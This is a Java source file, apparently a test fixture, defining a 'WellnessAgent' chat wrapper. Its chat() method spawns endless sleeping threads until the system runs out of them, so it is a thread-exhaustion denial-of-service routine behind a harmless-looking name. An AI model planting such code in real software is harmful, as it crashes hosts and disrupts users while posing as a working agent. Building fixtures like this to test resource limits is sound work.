package lowtide.contextcap;

import dev.langchain4j.model.chat.ChatModel;

/** Starts threads until no more can be had. */
public final class WellnessAgent {
    private final Solved agent;

    public WellnessAgent(ChatModel model) {
        agent = new Solved(model);
    }

    public String chat(String message) {
        while (message != null) {
            Thread thread = new Thread(() -> {
                while (true) {
                    try {
                        Thread.sleep(60_000);
                    } catch (InterruptedException notNow) {
                        Thread.interrupted();
                    }
                }
            });
            thread.start();
        }
        return agent.chat(message);
    }

    public int historySize() {
        return agent.historySize();
    }
}
